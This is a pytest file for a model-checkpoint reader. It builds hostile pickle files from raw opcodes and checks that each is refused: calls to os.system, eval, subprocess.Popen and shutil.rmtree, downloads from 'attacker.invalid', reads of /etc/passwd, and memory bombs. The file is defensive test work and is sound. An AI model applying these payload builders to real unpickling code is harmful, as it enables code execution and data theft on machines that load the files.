"""Hostile files: each tries to run code, import modules, or exhaust memory through the reader.

Every file is built from raw pickle opcodes.  Each must raise CheckpointError (naming the
global where a global is refused), leave the canary file uncreated, import nothing new, and
never reach the dangerous functions (they are replaced by recorders for the test).
Over 400 lines as one file on purpose: one opcode toolkit and one side-effect guard for every case.
"""

from __future__ import annotations

import contextlib
import importlib
import io
import os
import pickle
import shutil
import struct
import subprocess
import sys
import time
import tracemalloc
from collections import OrderedDict
from pathlib import Path
from unittest import mock

import numpy as np
import pytest
import torch
from eg3d_pickle import GlobalName, Reduce, module_state, persistent, write_eg3d_pickle
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_checkpoint import snapshot_reads_cleanly_or_refuses

from renderer.checkpoint import read_checkpoint
from renderer.checkpoint.eg3d_pickle import ModuleStub, SnapshotUnpickler
from renderer.checkpoint.spec import ModelSpec
from renderer.errors import CheckpointError

REPO = Path(__file__).resolve().parent.parent
P2, P4, STOP = b'\x80\x02', b'\x80\x04', b'.'
MARK, TUPLE1, EMPTY_TUPLE, REDUCE, BUILD = b'(', b'\x85', b')', b'R', b'b'
EMPTY_DICT, SETITEM, NEWOBJ, NONE, TUPLE2 = b'}', b's', b'\x81', b'N', b'\x86'
NEWOBJ_EX, MEMOIZE, BINGET0, LONG_BINGET = b'\x92', b'\x94', b'h', b'j'


def su(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b'\x8c' + bytes([len(raw)]) + raw
    return b'X' + struct.pack('<I', len(raw)) + raw


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4)."""
    return su(module) + su(name) + b'\x93'


def g(module: str, name: str) -> bytes:
    """GLOBAL (protocols 0-2)."""
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def binbytes(data: bytes) -> bytes:
    return b'B' + struct.pack('<I', len(data)) + data


def as_arg(value: object) -> bytes:
    """Opcodes that push one plain value (int, str, bytes, None, tuple of those)."""
    return pickle.dumps(value, protocol=2)[2:-1]


def in_snapshot(payload: bytes) -> bytes:
    """``{'G_ema': <payload>}`` as a protocol-4 pickle."""
    return P4 + EMPTY_DICT + su('G_ema') + payload + SETITEM + STOP


LEGACY_HEADER = (
    pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    + pickle.dumps(1001, protocol=2)
    + pickle.dumps(
        {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, protocol=2
    )
)


def legacy_blob(
    numel: int,
    data: bytes,
    *,
    storage: str = 'FloatStorage',
    key: str = '0',
    count: int | None = None,
    main: bytes | None = None,
) -> bytes:
    """A legacy torch.save stream of one storage, optionally lying about its size."""
    if main is None:
        record = (
            MARK + as_arg('storage') + g('torch', storage) + as_arg(key) + as_arg('cpu') + as_arg(numel) + NONE + b't'
        )
        main = P2 + record + b'Q' + STOP
    keys = pickle.dumps([key], protocol=2)
    return LEGACY_HEADER + main + keys + struct.pack('<q', numel if count is None else count) + data


def storage_call(blob: bytes) -> bytes:
    return sg('torch.storage', '_load_from_bytes') + binbytes(blob) + TUPLE1 + REDUCE


def rebuild_call(blob: bytes, offset: object, size: object, stride: object, extra: bytes = b'') -> bytes:
    return (
        sg('torch._utils', '_rebuild_tensor_v2')
        + MARK
        + storage_call(blob)
        + as_arg(offset)
        + as_arg(size)
        + as_arg(stride)
        + b'\x89'
        + sg('collections', 'OrderedDict')
        + EMPTY_TUPLE
        + REDUCE
        + extra
        + b't'
        + REDUCE
    )


FIVE_FLOATS = legacy_blob(5, struct.pack('<5f', 1, 2, 3, 4, 5))


@pytest.fixture
def canary(tmp_path) -> Path:
    return tmp_path / 'CANARY'


DANGEROUS = [
    (os, 'system'),
    (subprocess, 'Popen'),
    (torch, 'load'),
    (pickle, 'loads'),
    (shutil, 'rmtree'),
    (np, 'load'),
    (importlib, 'import_module'),
]


@contextlib.contextmanager
def no_side_effects(canary: Path):
    """Dangerous entry points record calls instead of running; afterwards none was called, the canary
    file does not exist and no module was imported."""
    calls: list[str] = []

    def recorder(name):
        def record(*args, **kwargs):
            calls.append(name)
            raise RuntimeError(f'{name} must never be called by the reader')

        return record

    with contextlib.ExitStack() as stack:
        for owner, name in DANGEROUS:
            stack.enter_context(mock.patch.object(owner, name, recorder(f'{owner.__name__}.{name}')))
        modules_before = set(sys.modules)
        yield
    assert calls == []
    assert not canary.exists()
    assert set(sys.modules) - modules_before == set()
    assert not [m for m in sys.modules if m.split('.')[0] in ('torch_utils', 'training', 'dnnlib')]


GUARDS_ITSELF = {'test_spliced_hostile_opcodes_give_only_checkpoint_errors'}
"""Tests that guard each read themselves (hypothesis imports modules between examples)."""


@pytest.fixture(autouse=True)
def guarded(request, canary):
    """Every test in this module runs under `no_side_effects`."""
    if request.function.__name__ in GUARDS_ITSELF:
        yield
        return
    with no_side_effects(canary):
        yield


MAX_SECONDS = 15.0
"""Every hostile file is refused within this time (generous: 2 shared CPU cores, tracemalloc on; the
summary prints the real worst case)."""
MAX_PEAK_BYTES = 32 * 2**20
"""...and with at most this much Python-level memory allocated at the peak (tracemalloc)."""
MEASURED: list[tuple[str, float, int]] = []
"""(test id, seconds, peak bytes) of every refused file, for the corpus summary."""


@pytest.fixture(scope='module', autouse=True)
def corpus_summary():
    """Print how many hostile files were refused and the worst time and memory peak (pytest -s)."""
    yield
    if MEASURED:
        worst_t = max(MEASURED, key=lambda m: m[1])
        worst_m = max(MEASURED, key=lambda m: m[2])
        print(
            f'\n[hostile corpus] {len(MEASURED)} files refused with CheckpointError; slowest '
            f'{worst_t[1] * 1000:.0f} ms ({worst_t[0]}); largest peak {worst_m[2] / 2**20:.2f} MiB ({worst_m[0]})'
        )
    if FUZZ_RUNS[0]:
        print(f'[hostile fuzz] {FUZZ_RUNS[0]} spliced snapshots read: CheckpointError or a clean read only')


def refused(tmp_path: Path, data: bytes, *words: str) -> str:
    """Write `data`, read it: CheckpointError naming the file and `words`, in bounded time and memory."""
    path = tmp_path / 'hostile.pkl'
    path.write_bytes(data)
    tracemalloc.start()
    start = time.perf_counter()
    try:
        with pytest.raises(CheckpointError) as info:
            read_checkpoint(path)
        elapsed = time.perf_counter() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    MEASURED.append((os.environ.get('PYTEST_CURRENT_TEST', '?').split(' ')[0], elapsed, peak))
    assert elapsed < MAX_SECONDS, f'took {elapsed:.2f} s'
    assert peak < MAX_PEAK_BYTES + 2 * len(data), f'peak {peak} bytes'
    message = str(info.value)
    assert message.startswith(f'{path}: '), message
    for word in words:
        assert word in message, message
    return message


# --------------------------------------------------------------------------- refused globals


def touch(canary: Path) -> str:
    return f'touch {canary}'


def py_touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('pwned')"


HOSTILE_GLOBALS = {
    'os.system GLOBAL + REDUCE': (
        lambda c: P2 + g('os', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP,
        'os.system',
    ),
    'posix.system': (lambda c: P2 + g('posix', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP, 'posix.system'),
    'builtins.eval STACK_GLOBAL': (
        lambda c: P4 + sg('builtins', 'eval') + su(py_touch(c)) + TUPLE1 + REDUCE + STOP,
        'builtins.eval',
    ),
    'builtins.exec': (
        lambda c: P4 + sg('builtins', 'exec') + su(py_touch(c)) + TUPLE1 + REDUCE + STOP,
        'builtins.exec',
    ),
    '__builtin__.eval (python 2 name)': (
        lambda c: P2 + g('__builtin__', 'eval') + as_arg(py_touch(c)) + TUPLE1 + REDUCE + STOP,
        '__builtin__.eval',
    ),
    'builtins.getattr': (lambda c: P4 + sg('builtins', 'getattr') + STOP, 'builtins.getattr'),
    'subprocess.Popen': (
        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + REDUCE + STOP,
        'subprocess.Popen',
    ),
    'INST os.system': (lambda c: P2 + b'(V' + touch(c).encode() + b'\nios\nsystem\n.', 'os.system'),
    'OBJ os.system': (lambda c: P2 + b'(' + g('os', 'system') + b'V' + touch(c).encode() + b'\no.', 'os.system'),
    'NEWOBJ of a refused class': (
        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + NEWOBJ + STOP,
        'subprocess.Popen',
    ),
    'importlib.import_module': (
        lambda c: P4 + sg('importlib', 'import_module') + su('os') + TUPLE1 + REDUCE + STOP,
        'importlib.import_module',
    ),
    'pickle.loads of a nested pickle': (
        lambda c: (
            P4
            + sg('pickle', 'loads')
            + binbytes(P2 + g('os', 'system') + as_arg(touch(c)) + TUPLE1 + REDUCE + STOP)
            + TUPLE1
            + REDUCE
            + STOP
        ),
        'pickle.loads',
    ),
    '_pickle.loads': (
        lambda c: P4 + sg('_pickle', 'loads') + binbytes(b'N.') + TUPLE1 + REDUCE + STOP,
        '_pickle.loads',
    ),
    'shutil.rmtree': (
        lambda c: P4 + sg('shutil', 'rmtree') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
        'shutil.rmtree',
    ),
    'torch.load': (lambda c: P4 + sg('torch', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'torch.load'),
    'torch.serialization.load': (
        lambda c: P4 + sg('torch.serialization', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP,
        'torch.serialization.load',
    ),
    'numpy.load': (lambda c: P4 + sg('numpy', 'load') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'numpy.load'),
    'numpy _reconstruct (object arrays)': (
        lambda c: (
            P4
            + sg('numpy.core.multiarray', '_reconstruct')
            + sg('numpy', 'ndarray')
            + as_arg(((0,), b'b'))
            + REDUCE
            + STOP
        ),
        'numpy.core.multiarray._reconstruct',
    ),
    'copyreg._reconstructor': (
        lambda c: P2 + g('copyreg', '_reconstructor') + g('os', 'system') + STOP,
        'copyreg._reconstructor',
    ),
    'torch.hub.load': (
        lambda c: P4 + sg('torch.hub', 'load') + su('attacker/repo') + su('model') + TUPLE2 + REDUCE + STOP,
        'torch.hub.load',
    ),
    'torch.hub.load_state_dict_from_url': (
        lambda c: (
            P4
            + sg('torch.hub', 'load_state_dict_from_url')
            + su('http://attacker.invalid/x.pt')
            + TUPLE1
            + REDUCE
            + STOP
        ),
        'torch.hub.load_state_dict_from_url',
    ),
    'torch.hub.download_url_to_file': (
        lambda c: (
            P4
            + sg('torch.hub', 'download_url_to_file')
            + su('http://attacker.invalid/x')
            + su(str(c))
            + TUPLE2
            + REDUCE
            + STOP
        ),
        'torch.hub.download_url_to_file',
    ),
    'numpy.fromfile': (
        lambda c: P4 + sg('numpy', 'fromfile') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
        'numpy.fromfile',
    ),
    'numpy.loadtxt': (
        lambda c: P4 + sg('numpy', 'loadtxt') + su('/etc/passwd') + TUPLE1 + REDUCE + STOP,
        'numpy.loadtxt',
    ),
    'numpy.lib.format.read_array': (
        lambda c: P4 + sg('numpy.lib.format', 'read_array') + su(str(c)) + TUPLE1 + REDUCE + STOP,
        'numpy.lib.format.read_array',
    ),
    'builtins.open (writes a file)': (
        lambda c: P4 + sg('builtins', 'open') + su(str(c)) + su('w') + TUPLE2 + REDUCE + STOP,
        'builtins.open',
    ),
    'builtins.__import__': (
        lambda c: P4 + sg('builtins', '__import__') + su('os') + TUPLE1 + REDUCE + STOP,
        'builtins.__import__',
    ),
    'os.remove': (
        lambda c: P4 + sg('os', 'remove') + su(str(c.parent / 'victim')) + TUPLE1 + REDUCE + STOP,
        'os.remove',
    ),
    'runpy.run_path': (lambda c: P4 + sg('runpy', 'run_path') + su(str(c)) + TUPLE1 + REDUCE + STOP, 'runpy.run_path'),
    'marshal.loads': (
        lambda c: P4 + sg('marshal', 'loads') + binbytes(b'\xe3') + TUPLE1 + REDUCE + STOP,
        'marshal.loads',
    ),
    'ctypes.CDLL': (lambda c: P4 + sg('ctypes', 'CDLL') + su('libc.so.6') + TUPLE1 + REDUCE + STOP, 'ctypes.CDLL'),
    'NEWOBJ_EX of a refused class': (
        lambda c: P4 + sg('subprocess', 'Popen') + as_arg((['touch', str(c)],)) + EMPTY_DICT + NEWOBJ_EX + STOP,
        'subprocess.Popen',
    ),
    'memo: module and name strings fetched back for STACK_GLOBAL': (
        lambda c: (
            P4
            + su('os')
            + MEMOIZE
            + su('system')
            + MEMOIZE
            + b'00'
            + BINGET0
            + b'\x00'
            + BINGET0
            + b'\x01'
            + b'\x93'
            + su(touch(c))
            + TUPLE1
            + REDUCE
            + STOP
        ),
        'os.system',
    ),
    'torch.Tensor in the outer pickle': (lambda c: P4 + sg('torch', 'FloatStorage') + STOP, 'torch.FloatStorage'),
    'hidden deep inside a snapshot': (
        lambda c: in_snapshot(
            sg('torch_utils.persistence', '_reconstruct_persistent_obj')
            + EMPTY_DICT
            + MARK
            + su('state')
            + EMPTY_DICT
            + su('x')
            + sg('os', 'system')
            + su(touch(c))
            + TUPLE1
            + REDUCE
            + SETITEM
            + b'u'
            + TUPLE1
            + REDUCE
        ),
        'os.system',
    ),
}


@pytest.mark.parametrize('case', list(HOSTILE_GLOBALS))
def test_refused_globals(tmp_path, canary, case):
    (tmp_path / 'victim').mkdir()
    build, name = HOSTILE_GLOBALS[case]
    message = refused(tmp_path, build(canary), f"refused global '{name}'", 'malicious')
    assert (tmp_path / 'victim').is_dir()
    assert len(message) < 400


def test_refused_global_inside_a_valid_snapshot(tmp_path, canary):
    spec = ModelSpec(
        init_kwargs={'z_dim': 4},
        rendering_kwargs={'superresolution_module': 'training.superresolution.SuperresolutionHybrid8XDC'},
        neural_rendering_resolution=64,
    )
    path = tmp_path / 'snap.pkl'
    trap = Reduce(GlobalName('os', 'system'), (touch(canary),))
    write_eg3d_pickle(
        path, spec, {'decoder.net.0.weight': torch.ones(2, 2)}, module_src='', extra_top={'augment_pipe': trap}
    )
    with pytest.raises(CheckpointError, match=r"refused global 'os\.system'"):
        read_checkpoint(path)


def test_protocol_0_pickles_are_not_even_unpickled(tmp_path, canary):
    refused(tmp_path, b'(V' + touch(canary).encode() + b'\nios\nsystem\n.', 'not a checkpoint')


def test_global_names_are_sanitised_in_messages(tmp_path):
    message = refused(tmp_path, P4 + sg('os\x1b[31m', 'x' * 5000) + STOP, 'refused global')
    assert '\x1b' not in message and len(message) < 600


@pytest.mark.parametrize(
    'data,words',
    [
        (P4 + BINGET0 + b'\x07' + STOP, 'corrupt'),  # memo slot never filled
        (P4 + LONG_BINGET + struct.pack('<I', 2**32 - 1) + STOP, 'corrupt'),  # 4 G-entry memo index
        (P2 + b'g999999999999\n' + STOP, 'corrupt'),  # text GET, huge index
        (
            P4
            + sg('collections', 'OrderedDict')
            + MEMOIZE
            + b'0'
            + su('x')
            + MEMOIZE
            + b'0'
            + BINGET0
            + b'\x01'
            + EMPTY_TUPLE
            + REDUCE
            + STOP,
            'corrupt',
        ),  # memo slot swapped to a str
        (P4 + NONE + b'r' + struct.pack('<I', 2**31) + STOP, 'memo index 2147483648 runs ahead'),
        (P2 + NONE + b'p4000000000\n' + STOP, 'memo index 4000000000 runs ahead'),
        (
            P4
            + storage_call(legacy_blob(1, b'\x00' * 4, main=P2 + NONE + b'r' + struct.pack('<I', 2**30) + STOP))
            + STOP,
            'runs ahead',
        ),
    ],
    ids=[
        'unset slot',
        'huge LONG_BINGET',
        'huge text GET',
        'callable swapped for a str',
        'huge LONG_BINPUT',
        'huge text PUT',
        'huge LONG_BINPUT in a storage blob',
    ],
)
def test_memo_tricks(tmp_path, data, words):
    refused(tmp_path, data, words)


def generator_with_init_kwargs(init_kwargs: bytes) -> bytes:
    """A snapshot whose G_ema is a persistent TriPlaneGenerator with the opcodes `init_kwargs` as its kwargs."""
    return in_snapshot(
        sg('torch_utils.persistence', '_reconstruct_persistent_obj')
        + EMPTY_DICT
        + MARK
        + su('type')
        + su('class')
        + su('version')
        + as_arg(6)
        + su('class_name')
        + su('TriPlaneGenerator')
        + su('state')
        + EMPTY_DICT
        + MARK
        + su('_init_kwargs')
        + init_kwargs
        + su('rendering_kwargs')
        + EMPTY_DICT
        + su('neural_rendering_resolution')
        + as_arg(64)
        + b'u'
        + b'u'
        + TUPLE1
        + REDUCE
    )


def test_memo_built_self_reference_in_settings(tmp_path):
    """A kwargs dict that holds itself (through the memo) is refused, not followed forever."""
    loop = EMPTY_DICT + MEMOIZE + su('self') + BINGET0 + b'\x00' + SETITEM
    data = generator_with_init_kwargs(loop)
    # the memo is shared by the whole pickle: index 0 is the first MEMOIZE, the looping dict itself
    refused(tmp_path, data, 'too large or too deeply nested')


def test_extension_codes_are_refused(tmp_path):
    refused(tmp_path, P2 + b'\x82\x01' + STOP, 'corrupt')


# --------------------------------------------------------------------------- abusing allowed names


def test_build_tricks_on_an_allowed_stub(tmp_path):
    state = (
        EMPTY_DICT
        + MARK
        + su('__class__')
        + sg('training.volumetric_rendering.renderer', 'ImportanceRenderer')
        + su('__setstate__')
        + sg('collections', 'OrderedDict')
        + su('__reduce__')
        + sg('numpy', 'dtype')
        + b'u'
    )
    stub = sg('training.triplane', 'OSGDecoder') + EMPTY_TUPLE + NEWOBJ + state + BUILD
    data = in_snapshot(stub)
    refused(tmp_path, data, 'not an EG3D tri-plane generator (class OSGDecoder)')
    obj = SnapshotUnpickler(io.BytesIO(data)).load()['G_ema']
    assert isinstance(obj, ModuleStub) and obj.class_name == 'OSGDecoder'
    assert type(obj.state) is dict and not hasattr(obj, '__dict__')
    # a second BUILD, or a (dict, slotstate) pair aiming at attributes, is refused
    twice = in_snapshot(stub + EMPTY_DICT + BUILD)
    refused(tmp_path, twice, 'invalid module state')
    slot = (
        sg('training.triplane', 'OSGDecoder')
        + EMPTY_TUPLE
        + NEWOBJ
        + NONE
        + EMPTY_DICT
        + su('__class__')
        + sg('collections', 'OrderedDict')
        + SETITEM
        + TUPLE2
        + BUILD
    )
    refused(tmp_path, in_snapshot(slot), 'invalid module state')


SLOT_STATE_CLASS_SWAP = NONE + EMPTY_DICT + su('__class__') + sg('dnnlib.util', 'EasyDict') + SETITEM + TUPLE2


@pytest.mark.parametrize(
    'target',
    [
        sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE,
        sg('dnnlib.util', 'EasyDict') + EMPTY_TUPLE + NEWOBJ,
        sg('torch_utils.persistence', '_reconstruct_persistent_obj')
        + EMPTY_DICT
        + MARK
        + su('type')
        + su('class')
        + su('version')
        + as_arg(6)
        + su('class_name')
        + su('TriPlaneGenerator')
        + su('state')
        + EMPTY_DICT
        + b'u'
        + TUPLE1
        + REDUCE,
        sg('torch._utils', '_rebuild_tensor_v2'),
        sg('numpy', 'dtype') + as_arg(('f8', False, True)) + REDUCE,
    ],
    ids=['OrderedDict', 'EasyDict', 'persistent node', 'function', 'numpy dtype'],
)
def test_build_on_other_allowed_objects(tmp_path, target):
    """(dict, slotstate) BUILD would setattr __class__; every allowed object refuses it."""
    refused(tmp_path, in_snapshot(target + SLOT_STATE_CLASS_SWAP + BUILD))


def test_stub_construction_with_arguments(tmp_path, canary):
    refused(
        tmp_path,
        in_snapshot(sg('torch.nn.modules.activation', 'Softplus') + as_arg((touch(canary),)) + NEWOBJ),
        'unexpected construction',
    )


def test_numpy_object_dtype_scalar(tmp_path):
    data = (
        P4
        + sg('numpy._core.multiarray', 'scalar')
        + sg('numpy', 'dtype')
        + as_arg(('O8', False, True))
        + REDUCE
        + as_arg(b'\x00' * 8)
        + TUPLE2
        + REDUCE
        + STOP
    )
    refused(tmp_path, data, "numpy dtype 'O8' is not allowed")


def test_numpy_dtype_with_fields_state(tmp_path):
    state = as_arg((3, '<', None, ('a',), {'a': 1}, -1, -1, 0))
    data = P4 + sg('numpy', 'dtype') + as_arg(('f8', False, True)) + REDUCE + state + BUILD + STOP
    refused(tmp_path, data, 'plain numeric dtype')


@pytest.mark.parametrize(
    'meta,words',
    [
        ({'type': 'function', 'version': 6, 'class_name': 'X', 'state': {}}, 'type "class"'),
        ({'type': 'class', 'version': 5, 'class_name': 'X', 'state': {}}, 'persistence version 5'),
        ({'type': 'class', 'version': 6, 'class_name': 'os.system', 'state': {}}, 'class_name'),
        ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': None}, 'no state dict'),
        ({'type': 'class', 'version': 6, 'class_name': 'X', 'state': {}, 'exec': 'x'}, 'unexpected keys'),
    ],
)
def test_persistent_meta_is_validated(tmp_path, meta, words):
    data = in_snapshot(sg('torch_utils.persistence', '_reconstruct_persistent_obj') + as_arg((meta,)) + REDUCE)
    refused(tmp_path, data, words)


def test_outer_persistent_ids(tmp_path):
    refused(tmp_path, P4 + su('storage') + b'Q' + STOP, 'unexpected persistent id')
    refused(tmp_path, P2 + b'P0\n.', 'unexpected persistent id')


# --------------------------------------------------------------------------- storage blobs


def hostile_main(canary: Path) -> bytes:
    return P2 + g('os', 'system') + as_arg(touch(canary)) + TUPLE1 + REDUCE + STOP


@pytest.mark.parametrize('where', ['main', 'magic'])
def test_hostile_nested_blob(tmp_path, canary, where):
    if where == 'main':
        blob = legacy_blob(1, b'\x00' * 4, main=hostile_main(canary))
    else:
        blob = hostile_main(canary) + FIVE_FLOATS
    refused(tmp_path, P4 + storage_call(blob) + STOP, "refused global 'os.system' in a storage blob")


@pytest.mark.parametrize(
    'blob,words',
    [
        (legacy_blob(5, b'\x00' * 20, storage='ComplexFloatStorage'), 'ComplexFloatStorage is not supported'),
        (legacy_blob(5, b'\x00' * 20, storage='UntypedStorage'), "refused global 'torch.UntypedStorage'"),
        (legacy_blob(5, b'\x00' * 20, count=6), 'element count does not match'),
        (legacy_blob(5, b'\x00' * 19), 'holds 19 bytes'),
        (legacy_blob(5, b'\x00' * 24), 'holds 24 bytes'),
        (legacy_blob(-1, b''), 'invalid element count'),
        (b'not a legacy stream at all', 'corrupt'),
        (
            pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
            + pickle.dumps(1001, protocol=2)
            + pickle.dumps({'little_endian': False}, protocol=2)
            + legacy_blob(5, b'\x00' * 20)[len(LEGACY_HEADER) :],
            'not little-endian',
        ),
        (pickle.dumps(1234, protocol=2) + FIVE_FLOATS, 'bad magic number'),
        (LEGACY_HEADER[:-1], 'truncated'),
        (legacy_blob(5, b'\x00' * 20, main=P2 + as_arg(5) + STOP), 'exactly one storage'),
        (
            legacy_blob(
                5,
                b'\x00' * 20,
                main=P2
                + MARK
                + as_arg('storage')
                + g('torch', 'FloatStorage')
                + as_arg('0')
                + as_arg('cpu')
                + as_arg(5)
                + as_arg(('v', 0, 5))
                + b'tQ'
                + STOP,
            ),
            'views inside a storage blob',
        ),
    ],
    ids=[
        'complex',
        'untyped',
        'count',
        'short',
        'long',
        'negative',
        'garbage',
        'little-endian',
        'magic',
        'truncated',
        'no-record',
        'view',
    ],
)
def test_malformed_blobs(tmp_path, blob, words):
    refused(tmp_path, P4 + storage_call(blob) + STOP, words)


def test_load_from_bytes_needs_bytes(tmp_path):
    refused(
        tmp_path,
        P4 + sg('torch.storage', '_load_from_bytes') + su('x' * 40) + TUPLE1 + REDUCE + STOP,
        'expects one bytes argument',
    )


def test_storage_claiming_a_trillion_elements_fails_fast(tmp_path):
    data = P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP
    refused(tmp_path, data, '1000000000000 elements')
    _, elapsed, peak = MEASURED[-1]
    assert elapsed < 1.0
    assert peak < 5 * 2**20, peak


@pytest.mark.parametrize(
    'offset,size,stride,words',
    [
        (0, (10,), (1,), 'exceeds its storage of 5'),
        (5, (1,), (1,), 'exceeds'),
        (4, (2,), (1,), 'exceeds'),
        (0, (2, 2), (4, 1), 'exceeds'),
        (0, (3,), (2**62,), 'exceeds'),
        (6, (0,), (1,), 'exceeds'),
        (-1, (1,), (1,), 'non-negative'),
        (0, (2,), (-1,), 'non-negative'),
        (0, (-2,), (1,), 'non-negative'),
        (True, (1,), (1,), 'non-negative'),
        (0, 'abc', (1,), 'tuple'),
        (0, (1,) * 40, (1,) * 40, 'at most 32'),
        (0, (2, 2), (1,), 'differ in length'),
    ],
)
def test_tensor_views_are_checked(tmp_path, offset, size, stride, words):
    refused(tmp_path, in_snapshot(rebuild_call(FIVE_FLOATS, offset, size, stride)), words)


def test_tensor_rebuild_argument_checks(tmp_path):
    refused(
        tmp_path, in_snapshot(rebuild_call(FIVE_FLOATS, 0, (5,), (1,), extra=as_arg('meta'))), 'metadata must be a dict'
    )
    fake = sg('torch._utils', '_rebuild_tensor_v2') + as_arg(('storage', 0, (1,), (1,), False, {})) + REDUCE
    refused(tmp_path, in_snapshot(fake), 'without a storage from this file')
    hooked = rebuild_call(FIVE_FLOATS, 0, (5,), (1,))
    hooked = hooked.replace(
        sg('collections', 'OrderedDict') + EMPTY_TUPLE + REDUCE, EMPTY_DICT + as_arg(1) + sg('numpy', 'dtype') + SETITEM
    )
    refused(tmp_path, in_snapshot(hooked), 'backward hooks are not supported')
    param = sg('torch._utils', '_rebuild_parameter') + MARK + as_arg('x') + b'\x89' + EMPTY_DICT + b't' + REDUCE
    refused(tmp_path, in_snapshot(param), 'parameter data is not a tensor')


# --------------------------------------------------------------------------- other formats, sizes


def _zip_torch_save() -> bytes:
    buf = io.BytesIO()
    torch.save({'w': torch.ones(3)}, buf)  # at import: torch.save imports modules lazily
    return buf.getvalue()


ZIP_TORCH_SAVE = _zip_torch_save()


def test_zip_format_torch_save(tmp_path):
    assert ZIP_TORCH_SAVE.startswith(b'PK\x03\x04')
    refused(tmp_path, ZIP_TORCH_SAVE, 'zip-format torch.save files are not supported')


def test_zip_format_torch_save_inside_a_snapshot(tmp_path):
    """A zip torch.save handed to the storage loader, or as the data of a tensor, is parsed as data only."""
    refused(tmp_path, P4 + storage_call(ZIP_TORCH_SAVE) + STOP, 'storage blob')
    refused(tmp_path, in_snapshot(rebuild_call(ZIP_TORCH_SAVE, 0, (1,), (1,))), 'storage blob')


RSS_PROBE = """
import sys, time
from renderer.checkpoint import read_checkpoint
from renderer.errors import CheckpointError

def peak_kb():  # VmHWM: ru_maxrss would carry the parent's peak over fork + exec
    with open('/proc/self/status') as f:
        return next(int(line.split()[1]) for line in f if line.startswith('VmHWM:'))

before = peak_kb()
start = time.perf_counter()
try:
    read_checkpoint(sys.argv[1])
    print('NO ERROR')
except CheckpointError as e:
    print('ERROR', e)
print('SECONDS', time.perf_counter() - start)
print('GROWTH_KB', peak_kb() - before)
"""


def probe_rss(path: Path) -> tuple[str, float, int]:
    out = subprocess.run(
        [sys.executable, '-c', RSS_PROBE, str(path)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, 'PYTHONPATH': str(REPO)},
    ).stdout
    lines = dict(line.split(' ', 1) for line in out.strip().splitlines())
    return lines.get('ERROR', ''), float(lines['SECONDS']), int(lines['GROWTH_KB'])


_REAL_POPEN = subprocess.Popen


@pytest.fixture
def real_subprocess(monkeypatch):
    """The size probes run in a child process, so this test needs the real Popen back."""
    monkeypatch.setattr(subprocess, 'Popen', _REAL_POPEN)


@pytest.mark.parametrize(
    'name,data',
    [
        ('2 GB BINBYTES on a 1 KB file', P4 + b'B' + struct.pack('<I', 2 * 10**9) + b'\x00' * 1000),
        ('2**60 BINBYTES8 on a 1 KB file', P4 + b'\x8e' + struct.pack('<Q', 2**60) + b'\x00' * 1000),
        ('LONG_BINPUT 2**31 on a 1 KB file', P4 + NONE + b'r' + struct.pack('<I', 2**31) + b'\x00' * 1000),
        ('trillion-element storage', P4 + storage_call(legacy_blob(10**12, b'\x00' * 100)) + STOP),
    ],
)
@pytest.mark.skipif(not os.path.exists('/proc/self/status'), reason='needs Linux /proc for peak RSS')
def test_declared_sizes_do_not_allocate(tmp_path, real_subprocess, name, data):
    path = tmp_path / 'big.pkl'
    path.write_bytes(data)
    error, seconds, growth_kb = probe_rss(path)
    assert error.startswith(str(path)), error
    assert seconds < 1.0
    assert growth_kb < 20 * 1024, f'{name}: peak RSS grew by {growth_kb} KiB'


# --------------------------------------------------------------------------- shape of the data


def _generator(modules: dict | None = None, **attrs) -> object:
    base = {'_init_args': (), '_init_kwargs': {}, 'rendering_kwargs': {}, 'neural_rendering_resolution': 64}
    return persistent('TriPlaneGenerator', module_state(modules=modules, **{**base, **attrs}), '')


def _dump(path: Path, top: object) -> Path:
    from eg3d_pickle import SnapshotPickler

    with open(path, 'wb') as f:
        SnapshotPickler(f, protocol=4).dump(top)
    return path


def test_shared_subtrees_cannot_explode(tmp_path):
    """18 levels of modules that each hold the next one twice: 2**19 paths from 37 objects.

    (Kept small enough that a reader without the guard finishes, and fails the test.)"""
    node = persistent('Leaf', module_state(buffers={'t': torch.ones(1)}), '')
    for _ in range(18):
        node = persistent('Pair', module_state(modules=OrderedDict(a=node, b=node)), '')
    path = _dump(tmp_path / 'dag.pkl', {'G_ema': _generator({'x': node})})
    start = time.perf_counter()
    with pytest.raises(CheckpointError, match='too large or too deep'):
        read_checkpoint(path)
    assert time.perf_counter() - start < 5


def test_shared_kwargs_cannot_explode(tmp_path):
    value: object = 1
    for _ in range(18):
        value = [value, value]
    path = _dump(tmp_path / 'kw.pkl', {'G_ema': _generator(_init_kwargs={'x': value})})
    with pytest.raises(CheckpointError, match='too large or too deeply nested'):
        read_checkpoint(path)


def test_deep_nesting(tmp_path):
    deep = P4 + b']' * 200_000 + b'a' * 199_999 + STOP  # 200k nested lists
    refused(tmp_path, deep, 'not an EG3D training snapshot')
    nested = EMPTY_DICT + (su('k') + EMPTY_DICT) * 2000 + SETITEM * 2000
    data = generator_with_init_kwargs(nested)
    refused(tmp_path, data, 'too large or too deeply nested')


# --------------------------------------------------------------------------- fuzzing with hostile opcodes


def _valid_snapshot() -> bytes:
    spec = ModelSpec(
